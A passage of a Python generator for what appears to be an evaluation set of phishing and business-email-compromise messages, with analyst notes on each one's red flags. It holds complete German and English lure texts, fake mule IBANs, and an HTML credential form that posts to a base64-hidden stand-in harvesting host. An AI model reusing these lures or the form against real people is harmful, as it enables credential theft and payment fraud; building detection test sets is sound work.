        ["Received: by filterdrecv-%s-%s with SMTP id filterdrecv-%s.%s\n\t{DATEUTC}" % (
            h(s, 1, n=10), h(s, 2, n=5), h(s, 3, n=10), hnum(s, "sg", n=5))]

def sg_rp(s, dom):
    return "bounces+%s-%s-%s=%s@em%s.%s" % (hnum(s, "u", n=8), h(s, "x", n=4), "RCPT", "DOM", hnum(s, "em", n=4), dom)

# ============================================================== ATTACKS
A = "attack"
BTC = btc_p2wpkh("audit37/extortion/silent-ledger")
IB = {}
IB["lief_old"] = de_iban("50040000", "0612345801")      # Commerzbank Frankfurt (genuine, old)
IB["lief_new"] = de_iban("50050201", "0200418833")      # Frankfurter Sparkasse (genuine change)
IB["lief_fake"] = de_iban("10050000", "6604417291")     # Berliner Sparkasse - mule (attack)
IB["miriam_fake"] = de_iban("11010100", "2817744019")   # Solaris - payroll diversion (attack)
IB["dfkr_fake"] = de_iban("20050550", "1362094473")     # register scam
IB["ferretti"] = it_iban("05034", "01633", "000000004718")   # Banco BPM (genuine)
IB["ferretti_fake"] = it_iban("03069", "09480", "100000091374")  # attack
IB["galli"] = it_iban("02008", "01603", "000105593021")     # UniCredit (genuine notary)
IB["pl_old"] = pl_iban("1140200", "0000380212884403")       # mBank (genuine, old)
IB["pl_new"] = pl_iban("1240106", "1111001098376205")       # Pekao (genuine change)
IB["pl_fake"] = pl_iban("1090101", "4000007142918836")      # Santander BP (attack)
IB["pl_notary_fake"] = pl_iban("1050109", "0000090231847755")
IB["es_notary"] = es_iban("0049", "1892", "0210145237")     # Santander (genuine notary)
IB["es_notary_fake"] = es_iban("0182", "4017", "0201583921")   # attack
IB["es_proc"] = es_iban("2100", "2208", "0201039718")       # CaixaBank procuradora
IB["gb_harwood_fake"] = gb_iban("CLRB", "040075", "43817265")
IB["gb_marsh"] = gb_iban("BARC", "203214", "53718402")
IB["gb_chambers"] = gb_iban("NWBK", "600406", "28150937")
IB["gr_alexiou"] = gr_iban("011", "0155", "15500482019")    # NBG
IB["gr_lexikon"] = gr_iban("017", "0112", "5011083917244")  # Piraeus
IB["cy_fake"] = cy_iban("005", "00195", "0195014427811")    # Hellenic Bank (attack)
RU_BIK_T = "044525974"; RU_ACC_FAKE = ru_account(RU_BIK_T, "40702810X10000834721")
RU_INN_FAKE = ru_inn10("772493018")
RU_BIK_S = "044525225"; RU_ACC_OFFICE = ru_account(RU_BIK_S, "40702810X38000124517")
RU_INN_OFFICE = ru_inn10("770412883")

# ---------------------------------------------------------------- A01
s = "01-de-ceo-fraud-lookalike-exarnple"
msg(A, s, "de", "ISO-8859-15 / QP", "CEO fraud: 'Managing Partner' asks CFO for confidential urgent escrow transfer",
    "From-domain exarnple.com ('rn' for 'm') is a look-alike of example.com, sent from a rented VPS; secrecy + urgency + bypass of four-eyes approval; payee details to follow from a 'lawyer'.",
    "sabine.krueger@example.com", "2026-11-12 15:47:09", "CET",
    ("exarnple.com", "srv617204.hstgr.cloud", "82.180.146.77"), "klaus.hoffmann@exarnple.com",
    [("From", addr("Dr. Klaus Hoffmann", "klaus.hoffmann@exarnple.com")),
     ("To", addr("Sabine Krüger", "sabine.krueger@example.com", "iso-8859-15", "Q")),
     ("Subject", "Vertraulich - Projekt Nordstern"),
     ("Date", "{DATE}"), ("Message-ID", mid_uuid(s, "exarnple.com").upper().replace("EXARNPLE.COM", "exarnple.com")),
     ("X-Mailer", "iPhone Mail (22B91)"), ("MIME-Version", "1.0")],
    Text("""Liebe Frau Krüger,

ich sitze bis voraussichtlich 18 Uhr in den Verhandlungen zum Projekt Nordstern und bin telefonisch nicht erreichbar. Die Transaktion ist bis zur Veröffentlichung am Montag streng vertraulich - bitte sprechen Sie vorerst weder mit Herrn Schneider noch mit der Buchhaltung darüber.

Für das Signing morgen früh muss heute noch die Sicherheitsleistung in Höhe von EUR 486.500,00 auf das Treuhandkonto der Gegenseite angewiesen werden. Herr RA Dr. Lukas Brenner von der Kanzlei auf Käuferseite meldet sich in Kürze per E-Mail mit den Kontodaten und dem Verwendungszweck bei Ihnen. Bitte veranlassen Sie die Zahlung als Eilüberweisung und schicken Sie mir nur die Ausführungsbestätigung.

Mir ist bewusst, dass das vom üblichen Freigabeprozess abweicht. Ich übernehme die Verantwortung und zeichne das Freigabeformular am Montag nach.

Danke für Ihre Diskretion.

Beste Grüße
Klaus Hoffmann

Von meinem iPhone gesendet
""", cs="iso-8859-15", cte="quoted-printable"))

# ---------------------------------------------------------------- A02
s = "02-de-lieferant-bankverbindung-lookalike-m365"
mx, rel = o365(s, "01-FR2|fr2deu01on2112", "40.107.135.112", pfx="FR4P281MB")
msg(A, s, "de", "ISO-8859-1 / QP, multipart/alternative + PDF", "Supplier bank-detail change (thread hijack) from look-alike lieferantgmbh.de",
    "Genuine supplier domain is lieferant-gmbh.de; the look-alike (hyphen dropped) is hosted on a fresh Microsoft 365 tenant, quotes a real-looking invoice thread and redirects payment to a new IBAN at another bank with deadline pressure.",
    "thomas.becker@example.com", "2026-11-17 10:21:44", "CET", mx, "s.maier@lieferantgmbh.de",
    [("From", addr("Maier, Stefan", "s.maier@lieferantgmbh.de")),
     ("To", addr("Becker, Thomas", "thomas.becker@example.com")),
     ("Subject", "AW: Rechnung RE-2026-11873 / Kd.-Nr. 40817"),
     ("Thread-Topic", "Rechnung RE-2026-11873 / Kd.-Nr. 40817"),
     ("Thread-Index", "AdtX" + base64.b64encode(bytes.fromhex(h(s, "ti", n=28))).decode()),
     ("Date", "{DATE}"), ("Message-ID", mid_ol(s, "FR4P281MB")),
     ("In-Reply-To", mid_ol(s + "prev", "FR2P281MB")), ("References", mid_ol(s + "prev", "FR2P281MB")),
     ("Content-Language", "de-DE"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Multi("alternative", [
            Text("""Sehr geehrter Herr Becker,

vielen Dank für Ihre Rückmeldung. Wie in unserem Schreiben vom 28.10. angekündigt, haben wir unsere Bankverbindung im Zuge der Umstellung auf unser neues ERP-System geändert. Die Rechnung RE-2026-11873 über 14.286,40 EUR sowie alle künftigen Zahlungen überweisen Sie bitte ausschließlich auf folgendes Konto:

Kontoinhaber: Lieferant GmbH
Bank: Berliner Sparkasse
IBAN: %s
BIC: BELADEBEXXX

Das Bestätigungsschreiben mit Unterschrift unserer Geschäftsführung finden Sie im Anhang. Die bisherige Verbindung bei der Commerzbank wird zum 30.11. aufgelöst, Zahlungen dorthin können danach nicht mehr zugeordnet werden.

Damit Sie das Skonto noch nutzen können, bitten wir um Ausführung bis Freitag.

Mit freundlichen Grüßen

Stefan Maier
Key Account Management
Lieferant GmbH | Frankfurter Straße 112 | 65760 Eschborn
Tel. +49 6196 7704-21

-----Ursprüngliche Nachricht-----
Von: Becker, Thomas <thomas.becker@example.com>
Gesendet: Montag, 16. November 2026 16:05
An: Maier, Stefan <s.maier@lieferant-gmbh.de>
Betreff: AW: Rechnung RE-2026-11873 / Kd.-Nr. 40817

Hallo Herr Maier,

die Rechnung liegt zur Freigabe vor, die Zahlung erfolgt mit dem nächsten Zahllauf.

Viele Grüße
Thomas Becker
""" % fmt_iban(IB["lief_fake"]), cs="iso-8859-1", cte="quoted-printable"),
            Text("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body lang="DE" style="font-family:Calibri,sans-serif;font-size:11pt">
<p>Sehr geehrter Herr Becker,</p>
<p>vielen Dank für Ihre Rückmeldung. Wie in unserem Schreiben vom 28.10. angekündigt, haben wir unsere Bankverbindung im Zuge der Umstellung auf unser neues ERP-System geändert. Die Rechnung RE-2026-11873 über 14.286,40 EUR sowie alle künftigen Zahlungen überweisen Sie bitte ausschließlich auf folgendes Konto:</p>
<p>Kontoinhaber: Lieferant GmbH<br>Bank: Berliner Sparkasse<br>IBAN: <b>%s</b><br>BIC: BELADEBEXXX</p>
<p>Das Bestätigungsschreiben mit Unterschrift unserer Geschäftsführung finden Sie im Anhang. Die bisherige Verbindung bei der Commerzbank wird zum 30.11. aufgelöst, Zahlungen dorthin können danach nicht mehr zugeordnet werden.</p>
<p>Damit Sie das Skonto noch nutzen können, bitten wir um Ausführung bis Freitag.</p>
<p>Mit freundlichen Grüßen</p>
<p><b>Stefan Maier</b><br>Key Account Management<br>Lieferant GmbH | Frankfurter Straße 112 | 65760 Eschborn<br>Tel. +49 6196 7704-21</p>
<div style="border-top:solid #E1E1E1 1pt;padding-top:3pt"><p><b>Von:</b> Becker, Thomas &lt;thomas.becker@example.com&gt;<br><b>Gesendet:</b> Montag, 16. November 2026 16:05<br><b>An:</b> Maier, Stefan &lt;s.maier@lieferant-gmbh.de&gt;<br><b>Betreff:</b> AW: Rechnung RE-2026-11873 / Kd.-Nr. 40817</p></div>
<p>Hallo Herr Maier,</p><p>die Rechnung liegt zur Freigabe vor, die Zahlung erfolgt mit dem nächsten Zahllauf.</p><p>Viele Grüße<br>Thomas Becker</p>
</body></html>
""" % fmt_iban(IB["lief_fake"]), "html", cs="iso-8859-1", cte="quoted-printable")]),
        Att(pdf(["Lieferant GmbH - Frankfurter Strasse 112 - 65760 Eschborn", "",
                 "Mitteilung ueber die Aenderung unserer Bankverbindung", "",
                 "Neue Bankverbindung ab sofort:", "Berliner Sparkasse", "IBAN " + fmt_iban(IB["lief_fake"]),
                 "BIC BELADEBEXXX", "", "Geschaeftsfuehrung", "", "[PLACEHOLDER - evaluation set, attack sample]"],
                "Bankverbindung"), "application/pdf", "Bankverbindung_Lieferant_GmbH_2026.pdf")]),
    relay=rel)

# ---------------------------------------------------------------- A03
s = "03-de-bea-benachrichtigung-credential-phish"
msg(A, s, "de", "UTF-8 / QP, HTML only", "Fake beA (besonderes elektronisches Anwaltspostfach) notification with link to a fake beA web login",
    "BRAK branding, but sent via SendGrid from bea-postfach-service.de; link goes to a Cloudflare workers.dev page (AiTM proxy pattern); pretext 'card-less browser login' and eEB deadline pressure. The real beA needs card/software token.",
    "miriam.schulz@example.com", "2026-11-12 07:44:31", "CET",
    ("o12.ptr4471.bea-postfach-service.de", "o12.ptr4471.bea-postfach-service.de", "149.72.207.41"),
    "bounces+48211937-a6f1-miriam.schulz=example.com@em3391.bea-postfach-service.de",
    [("From", addr("beA Benachrichtigung", "noreply@bea-postfach-service.de")),
     ("To", "miriam.schulz@example.com"),
     ("Subject", ew("Neue Nachricht in Ihrem beA-Postfach – Az. 2-13 O 412/26", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@geopod-ismtpd-12>" % h(s, "sg", n=22)),
     ("MIME-Version", "1.0")],
    Text("""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" style="background:#fff;border-top:6px solid #8c1d2c"><tr><td style="padding:24px 32px">
<p style="font-size:20px;color:#8c1d2c;margin:0 0 16px">beA &ndash; besonderes elektronisches Anwaltspostfach</p>
<p>Sehr geehrte Frau Rechtsanwältin Schulz,</p>
<p>in Ihrem Postfach ist eine neue Nachricht eingegangen:</p>
<table style="font-size:14px" cellpadding="4">
<tr><td>Absender:</td><td>Landgericht Frankfurt am Main</td></tr>
<tr><td>Aktenzeichen:</td><td>2-13 O 412/26</td></tr>
<tr><td>Betreff:</td><td>Verfügung &ndash; Fristsetzung zur Stellungnahme</td></tr>
<tr><td>Eingang:</td><td>12.11.2026, 07:42 Uhr</td></tr>
<tr><td>eEB angefordert:</td><td>ja</td></tr></table>
<p>Die Nachricht enthält eine Anforderung eines elektronischen Empfangsbekenntnisses (eEB).</p>
<p>Während der Migration auf die neue beA-Webanwendung ist die Anmeldung bis 30.11.2026 auch ohne beA-Karte mit Ihrer SAFE-ID und Ihrem Kanzleipasswort möglich.</p>
<p style="margin:28px 0"><a href="https://bea-webportal.brak-anmeldung.workers.dev/login?sid=mschulz%%40example.com&amp;n=2-13O412-26" style="background:#8c1d2c;color:#fff;padding:12px 22px;text-decoration:none;border-radius:3px">Nachricht im beA öffnen</a></p>
<p style="font-size:12px;color:#666">Diese Benachrichtigung wurde automatisch erzeugt. Bitte antworten Sie nicht auf diese E-Mail.<br>
Bundesrechtsanwaltskammer &middot; Littenstraße 9 &middot; 10179 Berlin</p>
</td></tr></table></td></tr></table>
<img src="https://u4471.ct.sendgrid.net/wf/open?upn=%s" width="1" height="1" alt="">
</body></html>
""" % h(s, "px", n=40), "html", cs="utf-8", cte="quoted-printable"),
    relay=["Received: by filterdrecv-6c9f8d4b6-q2k7x with SMTP id filterdrecv-6c9f8d4b6-q2k7x-1-%s-4B\n\t2026-11-12 06:44:31.208452193 +0000 UTC m=+1839212.551923819" % h(s, "f", n=16).upper()])

# ---------------------------------------------------------------- A04
s = "04-de-offertenrechnung-registereintrag"
msg(A, s, "de", "ISO-8859-1 / base64 + PDF", "Register offer-disguised-as-invoice scam ('Deutsches Firmen- und Kanzleiregister')",
    "Looks like an official register invoice (Aktenzeichen, payment deadline), but the small print makes it an offer for a worthless private directory listing; no business relationship exists; sent from a Contabo VPS.",
    "thomas.becker@example.com", "2026-11-05 08:03:12", "CET",
    ("mail.dfkr-register.de", "vmi2284117.contaboserver.net", "161.97.158.204"), "rechnung@dfkr-register.de",
    [("From", addr("DFKR Registerverwaltung", "rechnung@dfkr-register.de")),
     ("To", "buchhaltung@example.com"), ("Cc", "thomas.becker@example.com"),
     ("Subject", ew("Eintragungsbestätigung und Zahlungsaufforderung Nr. DFKR-2026-884123", "iso-8859-1", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "dfkr-register.de")), ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
     ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Sehr geehrte Damen und Herren,

anbei erhalten Sie die Eintragungsbestätigung für Ihre Kanzlei im Deutschen Firmen- und Kanzleiregister (DFKR) nebst Zahlungsaufforderung.

Registernummer: DFKR-2026-884123
Eingetragene Firma: Example Group Rechtsanwälte, Frankfurt am Main
Leistungszeitraum: 12 Monate ab Zahlungseingang
Betrag: 1.289,00 EUR zzgl. 19 %% USt. (1.533,91 EUR)

Bitte überweisen Sie den Betrag innerhalb von 8 Tagen unter Angabe der Registernummer auf das Konto
IBAN %s, BIC SOLADEST600.

Mit freundlichen Grüßen
Registerverwaltung DFKR

Hinweis: Das DFKR ist ein privates Online-Verzeichnis und steht in keiner Verbindung zum Handelsregister. Dieses Schreiben ist ein Angebot; ein Vertrag kommt erst durch Zahlung zustande. Es gelten unsere AGB.
""" % fmt_iban(IB["dfkr_fake"]), cs="iso-8859-1", cte="base64"),
        Att(pdf(["DFKR - Deutsches Firmen- und Kanzleiregister", "Registerverwaltung, Postfach 10 22 41, 20015 Hamburg", "",
                 "Eintragungsbestaetigung / Zahlungsaufforderung", "Registernummer DFKR-2026-884123", "",
                 "Eintragung Example Group Rechtsanwaelte", "Betrag 1.289,00 EUR zzgl. USt = 1.533,91 EUR",
                 "Zahlbar innerhalb 8 Tagen an IBAN " + fmt_iban(IB["dfkr_fake"]), "",
                 "Angebot - Vertrag kommt durch Zahlung zustande.", "[PLACEHOLDER - attack sample]"], "DFKR"),
            "application/pdf", "DFKR-2026-884123.pdf")]))

# ---------------------------------------------------------------- A05
s = "05-de-notarvertrag-html-anhang-kompromittiert"
htmlatt = ("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Kaufvertrag Entwurf UR 1843/2026</title>
<style>body{font-family:Segoe UI,Arial;background:#f3f2f1}.b{width:360px;margin:80px auto;background:#fff;padding:40px;box-shadow:0 2px 6px #0003}
input{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right}</style></head>
<body><div class="b"><img alt="Microsoft" width="108" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><h2>Dokument geschützt</h2>
<p>Der Absender hat das Dokument <b>Kaufvertrag_Entwurf_UR-1843-2026.pdf</b> mit Ihnen geteilt. Bitte bestätigen Sie Ihre Identität.</p>
<form id="f" method="POST"><input name="login" value="markus.schneider@example.com" readonly><input name="passwd" type="password" placeholder="Kennwort">
<button type="submit">Anmelden</button></form></div>
<script>/* INERT TEST PLACEHOLDER: real samples decode the exfil endpoint at runtime */
document.getElementById('f').action = atob('aHR0cHM6Ly9kb2NzLXZpZXctc2VjdXJlLmNvbS9vZmZpY2UvY29sbGVjdC5waHA=');</script>
</body></html>""").encode("utf-8")
msg(A, s, "de", "UTF-8 / QP + HTML attachment", "Compromised estate-agent mailbox sends 'notarial draft contract' as HTML file = fake Microsoft 365 login",
    "Genuine (compromised) domain kessler-immobilien.de with a plausible real-estate pretext; attachment is a local HTML credential form, pre-filled with the recipient's address, posting to docs-view-secure.com (base64-obfuscated).",
    "markus.schneider@example.com", "2026-11-19 14:12:50", "CET",
    ("lvps5-35-241-12.dedicated.hosteurope.de", "lvps5-35-241-12.dedicated.hosteurope.de", "5.35.241.12"), "s.kessler@kessler-immobilien.de",
    [("From", addr("Sandra Kessler", "s.kessler@kessler-immobilien.de")),
     ("To", addr("Markus Schneider", "markus.schneider@example.com")),
     ("Subject", ew("Kaufvertragsentwurf Hanauer Landstraße 204 – UR 1843/2026 Notar Dr. Albrecht", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_uuid(s, "kessler-immobilien.de")),
     ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.4.2"),
     ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Sehr geehrter Herr Schneider,

anbei übersende ich Ihnen vorab den Kaufvertragsentwurf des Notariats Dr. Albrecht für das Objekt Hanauer Landstraße 204 zur Durchsicht. Das Notariat hat das Dokument aus Datenschutzgründen geschützt; bitte öffnen Sie es über den Anhang und melden Sie sich mit Ihrer Kanzlei-Adresse an.

Der Beurkundungstermin ist weiterhin für den 26.11. um 10:00 Uhr vorgesehen. Für Anmerkungen bis Montag wären wir dankbar.

Mit freundlichen Grüßen

Sandra Kessler
Kessler Immobilien GmbH
Gewerbe- und Anlageimmobilien
Schweizer Straße 61 · 60594 Frankfurt am Main
Tel. 069 6109 3340
""", cs="utf-8", cte="quoted-printable"),
        Att(htmlatt, "text/html", "Kaufvertrag_Entwurf_UR-1843-2026.html")]))

# ---------------------------------------------------------------- A06
s = "06-de-gehaltskonto-aenderung-gmx"
msg(A, s, "de", "UTF-8 / QP", "Payroll diversion: 'associate' asks HR from a GMX address to change her salary account",
    "Employee impersonation from a free mailer (miriam.schulz.ffm@gmx.de is not on file); new account at a Solaris-based neobank; timed before December payroll and Christmas bonus; asks for confirmation by e-mail only.",
    "lena.fischer@example.com", "2026-11-18 19:36:02", "CET",
    ("mout.gmx.net", "mout.gmx.net", "212.227.17.21"), "miriam.schulz.ffm@gmx.de",
    [("From", addr("Miriam Schulz", "miriam.schulz.ffm@gmx.de")),
     ("To", addr("Lena Fischer", "lena.fischer@example.com")),
     ("Subject", "Gehaltskonto - Bitte um Änderung ab Dezember".replace("Ä", "Ae") if False else ew("Gehaltskonto – Bitte um Änderung ab Dezember", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<trinity-%s-%s@3c-app-gmx-bap%s>" % (h(s, "a", n=8) + "-" + h(s, "b", n=4) + "-" + h(s, "c", n=4) + "-" + h(s, "d", n=4), h(s, "e", n=12), hnum(s, "n", n=2))),
     ("Importance", "normal"), ("Sensitivity", "Normal"), ("MIME-Version", "1.0"),
     ("X-UI-Message-Type", "mail")],
    Text("""Hallo Lena,

kurze Bitte: Ich habe mein Gehaltskonto gewechselt und würde gern, dass das Dezembergehalt (inkl. Weihnachtsgeld) schon auf das neue Konto geht. Die neuen Daten:

Kontoinhaberin: Miriam Schulz
IBAN: %s
BIC: SOBKDEB2XXX

Kannst du mir kurz bestätigen, ob das für die Dezember-Abrechnung noch klappt? Ich schreibe von privat, weil ich im Homeoffice gerade nicht ins VPN komme und morgen den ganzen Tag bei Gericht bin.

Danke dir und liebe Grüße
Miriam
""" % fmt_iban(IB["miriam_fake"]), cs="utf-8", cte="quoted-printable"),
    relay=["Received: from [192.168.178.41] ([37.201.144.18]) by mail.gmx.net (mrgmx105\n\t[212.227.17.168]) with ESMTPSA (Nemesis) id 1MlNtF-%s; {DATE}" % b32tok(s, "n", n=11)])

# ---------------------------------------------------------------- A07
s = "07-de-quishing-mfa-neuregistrierung"
qr_url7 = "https://mfa.examplegroup-sso.com/r/?id=nkoch7Q3x&t=1127"
png7 = qr_png(qr_url7)
msg(A, s, "de", "UTF-8 / QP HTML + inline PNG (multipart/related)", "Quishing: fake internal IT notice 'MFA re-registration' with QR code",
    "Sender domain examplegroup-sso.com is not the company's; sent via Amazon SES; the QR code (decodable) points to an AiTM page at mfa.examplegroup-sso.com and moves the victim to an unmanaged phone; lock-out threat.",
    "nadine.koch@example.com", "2026-11-23 08:12:40", "CET",
    ("e226-7.smtp-out.eu-central-1.amazonses.com", "e226-7.smtp-out.eu-central-1.amazonses.com", "69.169.226.7"),
    "010701936a%s-000000@eu-central-1.amazonses.com" % h(s, "ses", n=24),
    [("From", addr("IT-Service Desk Example Group", "servicedesk@examplegroup-sso.com")),
     ("To", addr("Nadine Koch", "nadine.koch@example.com")),
     ("Subject", ew("Aktion erforderlich: Neuregistrierung Microsoft Authenticator bis 27.11.", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<010701936a%s-000000@eu-central-1.amazonses.com>" % h(s, "ses", n=24)),
     ("Feedback-ID", "::1.eu-central-1.%s:AmazonSES" % h(s, "fb", n=20)), ("MIME-Version", "1.0")],
    Multi("related", [
        Text("""<html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<div style="max-width:560px;margin:auto;border:1px solid #ddd;padding:24px">
<p style="font-size:12px;color:#777">Example Group &middot; IT-Service &middot; Interne Mitteilung</p>
<p>Sehr geehrte Frau Koch,</p>
<p>im Rahmen der Umstellung auf phishing-resistente Anmeldeverfahren müssen alle Mitarbeitenden der Example Group ihre Registrierung für den Microsoft Authenticator bis <b>Freitag, 27.11.2026</b> erneuern.</p>
<p>Bitte scannen Sie den folgenden Code mit der Kamera Ihres Smartphones. Der Vorgang dauert etwa zwei Minuten.</p>
<p style="text-align:center"><img src="cid:qr-%s@examplegroup-sso.com" width="222" height="222" alt="QR-Code"></p>
<p>Konten ohne erneuerte Registrierung werden am 28.11. aus Sicherheitsgründen vorübergehend gesperrt.</p>
<p>Vielen Dank für Ihre Unterstützung<br>Ihr IT-Service Desk<br>Durchwahl -400</p>
</div></body></html>
""" % h(s, "cid", n=8), "html", cs="utf-8", cte="quoted-printable"),
        Att(png7, "image/png", "mfa.png", disp="inline", cid="qr-%s@examplegroup-sso.com" % h(s, "cid", n=8))]))
MESSAGES[-1]["qr"] = qr_url7

# ---------------------------------------------------------------- A08
s = "08-de-mahnbescheid-zip-dropper"
msg(A, s, "de", "ISO-8859-1 / 8bit + ZIP", "Malware dropper: fake 'Mahnbescheid' from the central dunning court with ZIP (inert .js placeholder)",
    "Courts do not serve Mahnbescheide by e-mail; sender domain mahngericht-berlin-justiz.de is fake; sent from a Telekom dial-up IP with a Windows hostname as HELO (botnet); ZIP contains a double-extension script.",
    "petra.wagner@example.com", "2026-11-09 11:27:55", "CET",
    ("DESKTOP-4JQ8M2T", "p5b0c9e21.dip0.t-ipconnect.de", "91.12.158.33"), "poststelle@mahngericht-berlin-justiz.de",
    [("From", addr("Amtsgericht Wedding - Zentrales Mahngericht", "poststelle@mahngericht-berlin-justiz.de")),
     ("To", "petra.wagner@example.com"),
     ("Subject", "Mahnbescheid Geschaeftszeichen 26-4471823-0-2"),
     ("Date", "{DATE}"), ("Message-ID", "<%s$%s@DESKTOP-4JQ8M2T>" % (h(s, "a", n=12).upper(), h(s, "b", n=8).upper())),
     ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Sehr geehrte Damen und Herren,

gegen Sie ist beim Amtsgericht Wedding - Zentrales Mahngericht Berlin-Brandenburg - ein Antrag auf Erlass eines Mahnbescheids eingegangen.

Geschäftszeichen: 26-4471823-0-2
Antragsteller: Hanseatische Forderungsmanagement GmbH
Hauptforderung: 3.846,20 EUR zzgl. Zinsen und Kosten

Den Mahnbescheid und die Forderungsaufstellung erhalten Sie als Anlage. Sie können gegen den Anspruch innerhalb von zwei Wochen ab Zustellung Widerspruch erheben. Erfolgt kein Widerspruch, kann der Antragsteller den Erlass eines Vollstreckungsbescheids beantragen.

Mit freundlichen Grüßen
Geschäftsstelle Abt. 26
Amtsgericht Wedding
""", cs="iso-8859-1", cte="8bit"),
        Att(zipf([("Mahnbescheid_26-4471823-0-2.pdf.js", INERT.encode())]), "application/x-zip-compressed",
            "Mahnbescheid_26-4471823-0-2.zip")]),
    delay=12)
# ---------------------------------------------------------------- A09
s = "09-en-callback-westlaw-renewal"
mx, rel = gmail(s, "oliver.hughes@example.com", "lf1-f48", "209.85.167.48")
msg(A, s, "en", "UTF-8 / 7bit, multipart/mixed (gmail) + PDF", "Callback phishing (TOAD): fake Thomson Reuters/Westlaw auto-renewal invoice with a phone number to 'cancel'",
    "No link or malware - the lure is a phone number (UK drama range 020 7946 0xxx used as placeholder) for a fake billing desk that walks the victim into remote-access software; sent from a Gmail account, generic greeting, 48-hour pressure.",
    "oliver.hughes@example.com", "2026-11-24 10:02:18", "GMT", mx, "tr.subscriptions.billing@gmail.com",
    [("From", addr("Thomson Reuters Billing", "tr.subscriptions.billing@gmail.com")),
     ("To", "oliver.hughes@example.com"),
     ("Subject", "Renewal confirmation - Westlaw UK / Practical Law - Invoice TR-UK-8841207"),
     ("Date", "{DATE}"), ("Message-ID", mid_gmail(s)), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Multi("alternative", [
            Text("""Dear Customer,

Thank you for renewing your Westlaw UK and Practical Law subscription. Your annual plan has been renewed automatically and the amount below will be collected from your registered payment method within 24 hours.

Invoice: TR-UK-8841207
Product: Westlaw Edge UK + Practical Law (12 seats)
Term: 01 Dec 2026 - 30 Nov 2027
Amount: GBP 4,860.00 (incl. VAT)

If you did not authorise this renewal or wish to change the number of seats, please call our billing team on 020 7946 0182 (Mon-Fri, 8am-8pm) quoting your invoice number. Cancellations can only be processed within 48 hours of this notice.

Kind regards,
Customer Billing Team
""", cs="UTF-8", cte="7bit"),
            Text("""<div dir="ltr"><p>Dear Customer,</p><p>Thank you for renewing your Westlaw UK and Practical Law subscription. Your annual plan has been renewed automatically and the amount below will be collected from your registered payment method within 24 hours.</p><p>Invoice: TR-UK-8841207<br>Product: Westlaw Edge UK + Practical Law (12 seats)<br>Term: 01 Dec 2026 - 30 Nov 2027<br>Amount: <b>GBP 4,860.00</b> (incl. VAT)</p><p>If you did not authorise this renewal or wish to change the number of seats, please call our billing team on <b>020 7946 0182</b> (Mon-Fri, 8am-8pm) quoting your invoice number. Cancellations can only be processed within 48 hours of this notice.</p><p>Kind regards,<br>Customer Billing Team</p></div>
""", "html", cs="UTF-8", cte="7bit")], extra="gmail"),
        Att(pdf(["Thomson Reuters - Subscription Invoice TR-UK-8841207", "Westlaw Edge UK + Practical Law, 12 seats",
                 "Amount due GBP 4,860.00", "Questions or cancellation: 020 7946 0182", "[PLACEHOLDER - attack sample]"], "Invoice"),
            "application/pdf", "Invoice_TR-UK-8841207.pdf")], extra="gmail"),
    relay=rel)

# ---------------------------------------------------------------- A10
s = "10-en-conveyancing-completion-bank-change-lookalike"
mx, rel = gmail(s, "sarah.collins@example.com", "ej1-f52", "209.85.218.52")
msg(A, s, "en", "UTF-8 / QP, multipart/alternative", "Conveyancing 'Friday-afternoon' fraud: counterparty solicitors' look-alike domain changes client-account details before completion",
    "Genuine counterparty is harwoodlane.co.uk; this comes from harwood-lane.co.uk on Google Workspace; it asks to ignore the bank details in the TA13 completion form and pay GBP 612,450 to a ClearBank/EMI account - and even keeps the 'we never change bank details by e-mail' footer.",
    "sarah.collins@example.com", "2026-11-26 15:38:12", "GMT", mx, "emma.price@harwood-lane.co.uk",
    [("From", addr("Emma Price", "emma.price@harwood-lane.co.uk")),
     ("To", addr("Sarah Collins", "sarah.collins@example.com")), ("Cc", addr("James Whitfield", "james.whitfield@example.com")),
     ("Subject", "RE: 14 Elm Grove, Richmond TW9 - completion 27/11 - our ref HL/EP/26-0417"),
     ("Date", "{DATE}"), ("Message-ID", mid_gmail(s)),
     ("In-Reply-To", "<AM9PR07MB8821%s@AM9PR07MB8821.eurprd07.prod.outlook.com>" % h(s, "irt", n=24).upper()),
     ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Hi Sarah,

Thanks for the signed TR1 and the completion statement - all in order on our side and we are ready to complete tomorrow.

Please note that our client account has changed following our move to a new banking provider earlier this month; our details on the Law Society's Find a Solicitor page will be updated shortly. Please disregard the account shown in our Completion Information form (TA13), which was issued before the change, and remit the balance of GBP 612,450.00 to:

Account name: Harwood & Lane Solicitors LLP - Client Account
Bank: ClearBank Ltd
Sort code: 04-00-75
Account no: 43817265
IBAN: %s

Could you please send the CHAPS reference once released so we can arrange key release with the agents.

Many thanks,
Emma

Emma Price
Senior Conveyancing Executive
Harwood & Lane Solicitors LLP
T: 020 8940 2215

Cybercrime warning: Harwood & Lane will never notify you of changes to our bank details by email. If in doubt, please call us on a number you know to be correct.
""" % fmt_iban(IB["gb_harwood_fake"]), cs="UTF-8", cte="quoted-printable"),
